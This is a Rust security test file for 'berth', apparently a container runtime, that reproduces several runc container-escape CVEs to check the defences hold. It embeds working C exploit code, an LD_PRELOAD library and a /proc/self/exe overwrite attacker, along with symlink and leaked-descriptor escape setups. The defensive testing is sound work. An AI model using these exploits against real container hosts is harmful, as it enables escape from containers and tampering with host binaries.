//! The runc CVEs, each performed against berth: the test does the attack and checks a sentinel
//! the attack would change (the berth binary's bytes, a host file, a host directory).
//! Attacks on the binary run a private copy of berth, so a defence that fails cannot damage
//! the binary the other tests use.

mod common;

use common::{Bundle, Env, berth_bin};
use serde_json::json;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

/// Static helpers, built once: `attack` (the attacker inside the container) and `evil.so`
/// (code the attacker gets loaded into a berth that runs inside the container, as the original
/// CVE-2019-5736 exploit did with a library the runtime loads). None without gcc.
fn helpers() -> Option<&'static (PathBuf, PathBuf)> {
    static H: OnceLock<Option<(PathBuf, PathBuf)>> = OnceLock::new();
    H.get_or_init(|| {
        let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("security-helpers");
        std::fs::create_dir_all(&dir).unwrap();
        let c = dir.join("attack.c");
        std::fs::write(&c, ATTACK_C).unwrap();
        let attack = dir.join("attack");
        let ok = Command::new("gcc")
            .args(["-static", "-O2", "-o"])
            .arg(&attack)
            .arg(&c)
            .status()
            .is_ok_and(|s| s.success());
        let so_c = dir.join("evil.c");
        std::fs::write(&so_c, EVIL_C).unwrap();
        let so = dir.join("evil.so");
        let ok = ok
            && Command::new("gcc")
                .args(["-shared", "-fPIC", "-O2", "-o"])
                .arg(&so)
                .arg(&so_c)
                .status()
                .is_ok_and(|s| s.success());
        if !ok {
            eprintln!("note: no gcc: the CVE-2019-5736 tests are skipped");
            return None;
        }
        Some((attack, so))
    })
    .as_ref()
}

const ATTACK_C: &str = r#"
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <unistd.h>
#include <dirent.h>
#include <time.h>
#include <sys/stat.h>

static void out(const char *path, const char *msg) {
    FILE *f = fopen(path, "a"); if (!f) return; fputs(msg, f); fputc('\n', f); fclose(f);
}
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

/* Reopen an O_PATH descriptor of a binary for writing once it is no longer busy, and write. */
static void reopen(int fd, const char *o) {
    char p[64], msg[128]; snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    double end = now() + 10;
    while (now() < end) {
        int w = open(p, O_WRONLY);
        if (w >= 0) {
            if (pwrite(w, "PWNED!", 6, 0) == 6) out(o, "WROTE"); else out(o, "OPENED-NOWRITE");
            return;
        }
        if (errno != ETXTBSY) { snprintf(msg, sizeof msg, "BLOCKED %s", strerrorname_np(errno)); out(o, msg); return; }
        usleep(2000);
    }
    out(o, "TIMEOUT-ETXTBSY");
}

int main(int argc, char **argv) {
    char msg[256];
    if (argc == 4 && !strcmp(argv[1], "reopen")) { reopen(atoi(argv[2]), argv[3]); return 0; }
    if (argc == 4 && !strcmp(argv[1], "poll")) {
        /* Watch every other process: count /proc/N/exe that cannot be opened (non-dumpable),
           and any that opens and is neither busybox nor this program (a foreign binary). */
        const char *o = argv[2]; double end = now() + atof(argv[3]);
        struct stat bb, me; stat("/bin/busybox", &bb); stat("/proc/self/exe", &me);
        long denied = 0, foreign = 0, memfds = 0, wrote = 0; char last[128] = "";
        while (now() < end && access("/tmp/stop", F_OK) != 0) {
            DIR *d = opendir("/proc"); struct dirent *e;
            while (d && (e = readdir(d))) {
                int pid = atoi(e->d_name);
                if (pid <= 0 || pid == getpid()) continue;
                char p[64]; snprintf(p, sizeof p, "/proc/%d/exe", pid);
                int fd = open(p, O_PATH);
                if (fd < 0) { if (errno == EACCES || errno == EPERM) denied++; continue; }
                struct stat st; char link[256] = ""; char fp[64];
                snprintf(fp, sizeof fp, "/proc/self/fd/%d", fd);
                readlink(fp, link, sizeof link - 1);
                if (fstat(fd, &st) == 0 && !(st.st_ino == bb.st_ino && st.st_dev == bb.st_dev)
                    && !(st.st_ino == me.st_ino && st.st_dev == me.st_dev)) {
                    /* berth's trampoline (a sealed memfd) is harmless: check it stays unwritable. */
                    int is_memfd = !strncmp(link, "/memfd:", 7);
                    if (is_memfd) memfds++; else foreign++;
                    int w = open(fp, O_WRONLY);
                    if (w >= 0 && pwrite(w, "PWNED!", 6, 0) == 6) wrote++;
                    if (w >= 0) close(w);
                    if (!is_memfd) snprintf(last, sizeof last, "pid %d exe %s", pid, link);
                }
                close(fd);
            }
            if (d) closedir(d);
        }
        snprintf(msg, sizeof msg, "denied=%ld memfds=%ld wrote=%ld foreign=%ld %s", denied, memfds, wrote, foreign, last);
        out(o, msg);
        return 0;
    }
    if (argc == 3 && !strcmp(argv[1], "direct")) {
        /* The create child (pid 1 of a created container) or any pid: open its exe. */
        int pid = atoi(argv[2]);
        char p[64]; snprintf(p, sizeof p, "/proc/%d/exe", pid);
        int w = open(p, O_WRONLY); int we = errno;
        int fd = open(p, O_PATH); int pe = errno;
        snprintf(msg, sizeof msg, "direct=%s opath=%s", w >= 0 ? "OK" : strerrorname_np(we), fd >= 0 ? "OK" : strerrorname_np(pe));
        puts(msg); fflush(stdout);
        return 0;
    }
    fprintf(stderr, "usage\n"); return 2;
}
"#;

const EVIL_C: &str = r#"
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <fcntl.h>
#include <unistd.h>
/* Loaded (LD_PRELOAD from process.env) into whatever dynamic program runs in the container: if
   that is berth, keep an O_PATH descriptor of our own exe and become the attacker, which
   reopens it for writing once no berth is busy. */
__attribute__((constructor)) static void evil(void) {
    const char *o = getenv("EVIL_OUT");
    if (!o) return;
    int fd = open("/proc/self/exe", O_PATH);
    FILE *f = fopen(o, "a"); if (f) { fputs("RAN\n", f); fclose(f); }
    char n[16]; snprintf(n, sizeof n, "%d", fd);
    unsetenv("LD_PRELOAD");
    execl("/bin/attack", "attack", "reopen", n, o, (char *)0);
}
"#;

/// A private copy of berth for `env`, and its bytes. `BERTH_SECURITY_BIN` names another binary
/// to attack instead (e.g. a build without the defences, to see these tests fail).
fn private_berth(env: &mut Env) -> Vec<u8> {
    let copy = env.tmp.join("berth-copy");
    let src = std::env::var_os("BERTH_SECURITY_BIN")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(berth_bin()));
    std::fs::copy(src, &copy).unwrap();
    env.bin = copy;
    std::fs::read(&env.bin).unwrap()
}

/// Put the helpers and everything a dynamic berth needs (its loader and libraries) into the
/// rootfs, so that berth *could* run inside the container.
fn arm_rootfs(b: &mut Bundle, h: &(PathBuf, PathBuf)) {
    // The attacker writes its findings into the container's /tmp.
    b.config["root"]["readonly"] = json!(false);
    b.save();
    let r = b.rootfs();
    std::fs::copy(&h.0, r.join("bin/attack")).unwrap();
    std::fs::copy(&h.1, r.join("evil.so")).unwrap();
    let ldd = Command::new("ldd").arg(berth_bin()).output().unwrap();
    for line in String::from_utf8_lossy(&ldd.stdout).lines() {
        let path = line
            .split_whitespace()
            .find(|w| w.starts_with('/'))
            .map(PathBuf::from);
        if let Some(p) = path {
            let dst = r.join(p.strip_prefix("/").unwrap());
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            std::fs::copy(&p, &dst).unwrap();
        }
    }
    // The rootfs really can run berth: a chroot into it runs a copy of the binary.
    std::fs::copy(berth_bin(), r.join("berth-probe")).unwrap();
    // A copy just written may be briefly "busy": another test thread's fork can hold the
    // writing descriptor until its exec (ETXTBSY); that is not what this probe asks.
    let mut probe;
    let mut tries = 0;
    loop {
        probe = Command::new("chroot")
            .arg(&r)
            .args(["/berth-probe", "--version"])
            .output()
            .unwrap();
        tries += 1;
        if probe.status.success()
            || tries == 50
            || !String::from_utf8_lossy(&probe.stderr).contains("Text file busy")
        {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    std::fs::remove_file(r.join("berth-probe")).unwrap();
    assert!(
        probe.status.success(),
        "berth cannot run in the test rootfs, the attack would be vacuous: {}",
        String::from_utf8_lossy(&probe.stderr)
    );
}

fn wait_file(p: &Path, secs: u64) -> String {
    let end = Instant::now() + Duration::from_secs(secs);
    while Instant::now() < end {
        if let Ok(s) = std::fs::read_to_string(p)
            && s.ends_with('\n')
            && s.lines().any(|l| l != "RAN")
        {
            return s;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    std::fs::read_to_string(p).unwrap_or_default()
}

/// CVE-2019-5736 through the container's own process: `process.args[0]` is `/proc/self/exe`,
/// resolved by the kernel while berth execs it. If berth ran in the container, the preloaded
/// code would keep an O_PATH descriptor of it and overwrite it once idle.
#[test]
fn cve_2019_5736_process_is_proc_self_exe() {
    let Some(h) = helpers() else { return };
    let mut env = Env::new("sec-selfexe");
    let orig = private_berth(&mut env);
    let id = env.id("a");
    let mut b = env.bundle(&id, &["/proc/self/exe", "state", "x"]);
    arm_rootfs(&mut b, h);
    b.config["process"]["env"] = json!(["PATH=/bin", "LD_PRELOAD=/evil.so", "EVIL_OUT=/tmp/out"]);
    env.create(&id, &b);
    // The waiting create child is not reachable either (non-dumpable until it execs).
    env.ok(&["start", &id]);
    env.wait_status(&id, "stopped");
    let out = wait_file(&b.rootfs().join("tmp/out"), 12);
    assert_eq!(
        std::fs::read(&env.bin).unwrap(),
        orig,
        "the berth binary was overwritten from inside the container: {out:?}"
    );
    assert!(
        !out.contains("RAN"),
        "berth ran inside the container (its exe was reachable): {out:?}"
    );
}

/// The same through `berth exec` of a script whose `#!` line is `/proc/self/exe`, and of
/// `/proc/self/exe` itself.
#[test]
fn cve_2019_5736_exec_shebang_proc_self_exe() {
    let Some(h) = helpers() else { return };
    let mut env = Env::new("sec-shebang");
    let orig = private_berth(&mut env);
    let id = env.id("a");
    let mut b = env.bundle(&id, &["sleep", "60"]);
    arm_rootfs(&mut b, h);
    std::fs::write(b.rootfs().join("bin/evil"), "#!/proc/self/exe\n").unwrap();
    Command::new("chmod")
        .arg("755")
        .arg(b.rootfs().join("bin/evil"))
        .status()
        .unwrap();
    env.create(&id, &b);
    env.ok(&["start", &id]);
    for (n, args) in [
        ("1", vec!["/bin/evil"]),
        ("2", vec!["/proc/self/exe", "state", "x"]),
    ] {
        let outf = format!("/tmp/out{n}");
        let mut c = env.cmd();
        c.args(["exec", "-d", "-e", "LD_PRELOAD=/evil.so", "-e"])
            .arg(format!("EVIL_OUT={outf}"))
            .arg(&id)
            .args(&args);
        let st = c
            .stdin(Stdio::null())
            .stdout(std::fs::File::create(b.dir.join(format!("exec{n}.out"))).unwrap())
            .stderr(std::fs::File::create(b.dir.join(format!("exec{n}.err"))).unwrap())
            .status()
            .unwrap();
        assert!(st.success(), "exec {args:?}");
        let out = wait_file(&b.rootfs().join(outf.trim_start_matches('/')), 3);
        assert_eq!(
            std::fs::read(&env.bin).unwrap(),
            orig,
            "{args:?}: the berth binary was overwritten: {out:?}"
        );
        assert!(
            !out.contains("RAN"),
            "{args:?}: berth ran in the container: {out:?}"
        );
    }
}

/// CVE-2019-5736 against the processes berth puts into the container before they exec: the
/// create child waiting for `start` (pid 1 of a created container) and `berth exec` children
/// while they join. An attacker inside polls /proc/*/exe; none may be opened.
#[test]
fn cve_2019_5736_joining_processes_are_not_reachable() {
    let Some(h) = helpers() else { return };
    let mut env = Env::new("sec-join");
    let orig = private_berth(&mut env);
    let id = env.id("a");
    let mut b = env.bundle(&id, &["sleep", "60"]);
    arm_rootfs(&mut b, h);
    env.create(&id, &b);
    // The create child, directly: write and O_PATH opens of its exe.
    let direct = env.berth(&["exec", &id, "/bin/attack", "direct", "1"]);
    let direct = String::from_utf8_lossy(&direct.stdout).into_owned();
    assert!(
        direct.contains("direct=EACCES") && direct.contains("opath=EACCES"),
        "the waiting create child's exe is reachable: {direct:?}"
    );
    // Then a poller, and execs while it polls.
    let mut c = env.cmd();
    c.args(["exec", "-d", &id, "/bin/attack", "poll", "/tmp/poll", "60"]);
    assert!(c.stdin(Stdio::null()).status().unwrap().success());
    let end = Instant::now() + Duration::from_secs(40);
    let mut n = 0;
    while n < 150 && Instant::now() < end {
        let st = env
            .cmd()
            .args(["exec", &id, "true"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap();
        assert!(st.success());
        n += 1;
    }
    std::fs::write(b.rootfs().join("tmp/stop"), "").unwrap();
    let out = wait_file(&b.rootfs().join("tmp/poll"), 10);
    eprintln!("{n} execs; poller: {out}");
    assert_eq!(
        std::fs::read(&env.bin).unwrap(),
        orig,
        "binary overwritten: {out}"
    );
    assert!(
        out.contains("foreign=0 "),
        "a berth process in the container was reachable: {out}"
    );
    let denied: u64 = out
        .split_whitespace()
        .find_map(|w| w.strip_prefix("denied="))
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    assert!(denied > 0, "the poller never saw a berth process: {out}");
}

/// A command with host descriptors open and inheritable: fd 5 a host directory, fd 7 a file.
fn with_leaked_fds(c: &mut Command, dir: &Path) {
    let d = std::fs::File::open(dir).unwrap();
    let f = std::fs::File::open("/etc/hostname").unwrap();
    use std::os::fd::IntoRawFd;
    let (d, f) = (d.into_raw_fd(), f.into_raw_fd());
    // SAFETY: only dup2 (async-signal-safe) between fork and exec; the targets are plain
    // numbers whose previous contents (if any) the child does not need.
    unsafe {
        c.pre_exec(move || {
            if libc::dup2(d, 5) < 0 || libc::dup2(f, 7) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
}

fn fd_list(s: &str) -> Vec<u32> {
    let mut v: Vec<u32> = s
        .split_whitespace()
        .filter_map(|w| w.parse().ok())
        .collect();
    v.sort();
    v
}

/// The descriptors of a child of the shell (the shell's own glob holds one more while listing),
/// once it has exec'd sleep (so its own stdin redirection to /dev/null is done). Under load its
/// /proc directory may not be readable at the first try (while it execs), so that is retried.
const LIST_FDS: &str = "sleep 60 & i=0; \
     until cd /proc/$!/fd 2>/dev/null && [ \"$(cat /proc/$!/comm)\" = sleep ]; do \
     i=$((i+1)); [ $i -gt 200 ] && echo never-exec && break; sleep 0.05; done; \
     for f in *; do echo $f; done; kill $!; echo listed";

/// CVE-2024-21626: no descriptor of the caller reaches the container (run, create+start, exec,
/// and exec --preserve-fds 1 which keeps exactly fd 3).
#[test]
fn cve_2024_21626_no_host_fd_reaches_the_container() {
    let env = Env::new("sec-fds");
    let host_dir = env.tmp.join("hostdir");
    std::fs::create_dir_all(&host_dir).unwrap();
    let id = env.id("a");
    let b = env.bundle(&id, &["sh", "-c", LIST_FDS]);
    // run
    let mut c = env.cmd();
    c.args(["run", "--bundle"]).arg(&b.dir).arg(&id);
    with_leaked_fds(&mut c, &host_dir);
    let so = b.dir.join("run.out");
    let st = c
        .stdin(Stdio::null())
        .stdout(std::fs::File::create(&so).unwrap())
        .status()
        .unwrap();
    assert!(st.success());
    assert_eq!(
        fd_list(&std::fs::read_to_string(&so).unwrap()),
        vec![0, 1, 2]
    );

    // create + start
    let id2 = env.id("b");
    let b2 = env.bundle(&id2, &["sh", "-c", &format!("{LIST_FDS}; sleep 60")]);
    let mut c = env.cmd();
    c.args(["create", "--bundle"]).arg(&b2.dir).arg(&id2);
    with_leaked_fds(&mut c, &host_dir);
    let so2 = b2.dir.join("create.out");
    let st = c
        .stdin(Stdio::null())
        .stdout(std::fs::File::create(&so2).unwrap())
        .status()
        .unwrap();
    assert!(st.success());
    let mut c = env.cmd();
    c.args(["start", &id2]);
    with_leaked_fds(&mut c, &host_dir);
    assert!(c.stdin(Stdio::null()).status().unwrap().success());
    // The list is complete once "listed" follows it (one line per write: a non-empty file may
    // hold only its first lines).
    let end = Instant::now() + Duration::from_secs(10);
    while !std::fs::read_to_string(&so2)
        .unwrap_or_default()
        .ends_with("listed\n")
        && Instant::now() < end
    {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert_eq!(
        fd_list(&std::fs::read_to_string(&so2).unwrap()),
        vec![0, 1, 2]
    );

    // exec, and exec --preserve-fds 1 (fd 3 is the caller's, on purpose)
    for (extra, want) in [(None, vec![0, 1, 2]), (Some("1"), vec![0, 1, 2, 3])] {
        let mut c = env.cmd();
        c.arg("exec");
        if let Some(n) = extra {
            c.args(["--preserve-fds", n]);
        }
        c.args([&id2, "sh", "-c", LIST_FDS]);
        with_leaked_fds(&mut c, &host_dir);
        let f3 = std::fs::File::open("/etc/hostname").unwrap();
        use std::os::fd::IntoRawFd;
        let f3 = f3.into_raw_fd();
        // SAFETY: dup2 only, as in with_leaked_fds.
        unsafe {
            c.pre_exec(move || {
                if libc::dup2(f3, 3) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let out = c.stdin(Stdio::null()).output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            fd_list(&String::from_utf8_lossy(&out.stdout)),
            want,
            "exec {extra:?}"
        );
    }
}

/// CVE-2024-21626: `process.cwd` = /proc/self/fd/N where N is a leaked host directory must not
/// put the process outside the container (create and exec). The host directory must stay empty.
#[test]
fn cve_2024_21626_cwd_through_proc_self_fd() {
    let env = Env::new("sec-cwd");
    let host_dir = env.tmp.join("hostdir");
    std::fs::create_dir_all(&host_dir).unwrap();
    let id = env.id("a");
    let mut b = env.bundle(&id, &["sh", "-c", "touch escaped; pwd"]);
    for n in ["5", "7", "3", "4", "6", "8", "9", "10"] {
        b.config["process"]["cwd"] = json!(format!("/proc/self/fd/{n}"));
        b.save();
        let mut c = env.cmd();
        c.args(["run", "--bundle"]).arg(&b.dir).arg(&id);
        with_leaked_fds(&mut c, &host_dir);
        let out = c.stdin(Stdio::null()).output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            !out.status.success() && err.contains("process.cwd"),
            "cwd /proc/self/fd/{n}: {out:?}"
        );
        let _ = env.berth(&["delete", "--force", &id]);
    }
    // exec
    let id2 = env.id("b");
    let b2 = env.bundle(&id2, &["sleep", "60"]);
    env.create(&id2, &b2);
    env.ok(&["start", &id2]);
    for n in ["5", "7"] {
        let mut c = env.cmd();
        c.args([
            "exec",
            "--cwd",
            &format!("/proc/self/fd/{n}"),
            &id2,
            "sh",
            "-c",
            "touch escaped",
        ]);
        with_leaked_fds(&mut c, &host_dir);
        let out = c.stdin(Stdio::null()).output().unwrap();
        assert!(
            !out.status.success() && String::from_utf8_lossy(&out.stderr).contains("process.cwd"),
            "exec --cwd /proc/self/fd/{n}: {out:?}"
        );
    }
    assert_eq!(
        std::fs::read_dir(&host_dir).unwrap().count(),
        0,
        "a file was created in the host directory"
    );
}

/// Remove the /dev tmpfs from the config so the rootfs's own /dev (with planted symlinks) is
/// what berth works in.
fn without_dev_mount(b: &mut Bundle) {
    let m = b.config["mounts"].as_array().unwrap().clone();
    let m: Vec<_> = m
        .into_iter()
        .filter(|m| m["destination"] != "/dev")
        .collect();
    b.config["mounts"] = json!(m);
}

fn up(host: &Path) -> String {
    // "/../../../.." then the host path: resolved naively from the rootfs, this is the host's.
    format!("/../../../../../../../..{}", host.display())
}

/// The names in a host directory.
fn names(d: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(d)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

/// CVE-2021-30465 family: mount destinations and device paths resolve inside the rootfs, never
/// through a symlink out of it. Each case checks the host sentinel and directory are untouched.
#[test]
fn cve_2021_30465_mount_and_device_paths_stay_in_the_rootfs() {
    let env = Env::new("sec-mnt");
    let host_dir = env.tmp.join("hostdir");
    std::fs::create_dir_all(&host_dir).unwrap();
    let sentinel = host_dir.join("sentinel");
    std::fs::write(&sentinel, "ORIG").unwrap();
    let src = env.tmp.join("src");
    std::fs::write(&src, "FROM-BUNDLE\n").unwrap();
    let ln = |target: String, at: &Path| std::os::unix::fs::symlink(target, at).unwrap();
    let check_host = |what: &str| {
        assert_eq!(
            std::fs::read_to_string(&sentinel).unwrap(),
            "ORIG",
            "{what}"
        );
        assert_eq!(
            names(&host_dir),
            vec!["sentinel"],
            "{what}: host directory changed"
        );
    };

    // 1. /etc/x (a bind mount's destination) → the host sentinel file; the container writes
    //    to it. berth may refuse the destination, or mount inside the rootfs; never the host.
    let id = env.id("a");
    let mut b = env.bundle(&id, &["sh", "-c", "cat /etc/x; echo PWNED > /etc/x"]);
    ln(up(&sentinel), &b.rootfs().join("etc/x"));
    let mut mounts = b.config["mounts"].as_array().unwrap().clone();
    mounts
        .push(json!({"destination": "/etc/x", "type": "bind", "source": src, "options": ["bind"]}));
    b.config["mounts"] = json!(mounts);
    let (code, out, err) = env.run(&id, &b);
    check_host("file symlink");
    assert!(
        (code != 0 && err.contains("mounts[") && err.contains("/etc/x"))
            || (code == 0 && out.contains("FROM-BUNDLE")),
        "{code} {out} {err}"
    );

    // 2. A destination through a chain of directory symlinks: /etc/chain → ../a → the host dir.
    let id = env.id("b");
    let mut b = env.bundle(
        &id,
        &["sh", "-c", "touch /etc/chain/y/pwned && ls /etc/chain/y"],
    );
    let r = b.rootfs();
    ln("../a".into(), &r.join("etc/chain"));
    ln(up(&host_dir), &r.join("a"));
    // The same path exists inside the rootfs (without `y`): resolved in the root, the chain
    // ends there; followed on the host, it would end in the host directory.
    std::fs::create_dir_all(r.join(host_dir.strip_prefix("/").unwrap())).unwrap();
    let mut mounts = b.config["mounts"].as_array().unwrap().clone();
    mounts.push(json!({"destination": "/etc/chain/y", "type": "tmpfs", "source": "tmpfs"}));
    b.config["mounts"] = json!(mounts);
    let (code, out, err) = env.run(&id, &b);
    check_host("directory chain");
    assert_eq!((code, out.trim()), (0, "pwned"), "{err}");
    // It went where the symlinks lead inside the rootfs.
    assert!(
        r.join(host_dir.strip_prefix("/").unwrap())
            .join("y")
            .is_dir()
    );

    // 3. A device under /dev/sub → the host dir (the rootfs's own /dev, no tmpfs over it).
    let id = env.id("c");
    let mut b = env.bundle(&id, &["sh", "-c", "ls -l /dev/sub/mynull | cut -c1"]);
    without_dev_mount(&mut b);
    ln(up(&host_dir), &b.rootfs().join("dev/sub"));
    std::fs::create_dir_all(b.rootfs().join(host_dir.strip_prefix("/").unwrap())).unwrap();
    b.config["linux"]["devices"] =
        json!([{"path": "/dev/sub/mynull", "type": "c", "major": 1, "minor": 3}]);
    let (code, out, err) = env.run(&id, &b);
    check_host("device");
    assert_eq!((code, out.trim()), (0, "c"), "{err}");
}

/// CVE-2025-31133: /dev/null in the container replaced (here by a createContainer hook, standing
/// for a process racing berth) by a symlink to a procfs file or by a regular file: berth must
/// not mask with it, and says why.
#[test]
fn cve_2025_31133_masking_with_a_swapped_dev_null() {
    let env = Env::new("sec-null");
    let core = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    for (n, swap) in [
        ("a", "ln -s /proc/sys/kernel/core_pattern"),
        ("b", "ln -s /dev/zero"),
        ("c", "echo x >"),
    ] {
        let id = env.id(n);
        let mut b = env.bundle(&id, &["cat", "/proc/kcore"]);
        let null = b.rootfs().join("dev/null");
        b.config["linux"]["maskedPaths"] = json!(["/proc/kcore", "/proc/sys/kernel/core_pattern"]);
        b.config["hooks"] = json!({"createContainer": [{
            "path": "/bin/sh",
            "args": ["sh", "-c", format!("rm -f {0} && {swap} {0}", null.display())]
        }]});
        let out = env.try_create(&id, &b);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            !out.status.success() && err.contains("maskedPaths") && err.contains("/dev/null"),
            "{swap}: {err}"
        );
        assert!(!env.root.join(&id).exists(), "{swap}: state left behind");
    }
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap(),
        core
    );
}

/// CVE-2025-52565: /dev/console in the rootfs is a symlink to a host file; with a terminal the
/// pty is bound onto /dev/console itself or berth refuses — the host file is never touched.
#[test]
fn cve_2025_52565_dev_console_symlink() {
    use std::os::unix::net::UnixListener;
    let env = Env::new("sec-console");
    let host = env.tmp.join("host-console");
    std::fs::write(&host, "ORIG").unwrap();
    let id = env.id("a");
    let mut b = env.bundle(&id, &["sh", "-c", "echo PWNED > /dev/console"]);
    without_dev_mount(&mut b);
    let r = b.rootfs();
    let _ = std::fs::remove_file(r.join("dev/console"));
    std::os::unix::fs::symlink(up(&host), r.join("dev/console")).unwrap();
    b.config["process"]["terminal"] = json!(true);
    b.save();
    let sock = env.tmp.join("console.sock");
    let listener = UnixListener::bind(&sock).unwrap();
    listener.set_nonblocking(true).unwrap();
    let st = env
        .cmd()
        .args(["create", "--console-socket"])
        .arg(&sock)
        .arg("--bundle")
        .arg(&b.dir)
        .arg(&id)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(b.dir.join("err")).unwrap())
        .status()
        .unwrap();
    let err = std::fs::read_to_string(b.dir.join("err")).unwrap();
    assert!(
        !st.success(),
        "create with a /dev/console symlink succeeded"
    );
    assert!(err.contains("/dev/console"), "{err}");
    assert_eq!(std::fs::read_to_string(&host).unwrap(), "ORIG");
}

/// CVE-2025-52881: a bind mount over a /proc/sys file (from config.json mounts) must make the
/// sysctl write fail clearly, not write into what was mounted there.
#[test]
fn cve_2025_52881_sysctl_through_a_mount_over_proc() {
    let env = Env::new("sec-sysctl");
    let id = env.id("a");
    let mut b = env.bundle(&id, &["true"]);
    let decoy = b.dir.join("decoy");
    std::fs::write(&decoy, "ORIG").unwrap();
    let mut mounts = b.config["mounts"].as_array().unwrap().clone();
    mounts.push(
        json!({"destination": "/proc/sys/kernel/domainname", "type": "bind",
        "source": decoy, "options": ["bind"]}),
    );
    b.config["mounts"] = json!(mounts);
    b.config["linux"]["sysctl"] = json!({"kernel.domainname": "pwned"});
    let out = env.try_create(&id, &b);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        std::fs::read_to_string(&decoy).unwrap(),
        "ORIG",
        "written through the mount"
    );
    assert!(
        !out.status.success() && err.contains("linux.sysctl") && err.contains("mounted"),
        "{err}"
    );
    // Without the mount the same sysctl works (the test above fails for the right reason).
    let id2 = env.id("b");
    let mut b2 = env.bundle(&id2, &["cat", "/proc/sys/kernel/domainname"]);
    b2.config["linux"]["sysctl"] = json!({"kernel.domainname": "fine"});
    b2.config["linux"]["readonlyPaths"] = json!([]);
    let (code, out, err) = env.run(&id2, &b2);
    assert_eq!((code, out.trim()), (0, "fine"), "{err}");
}
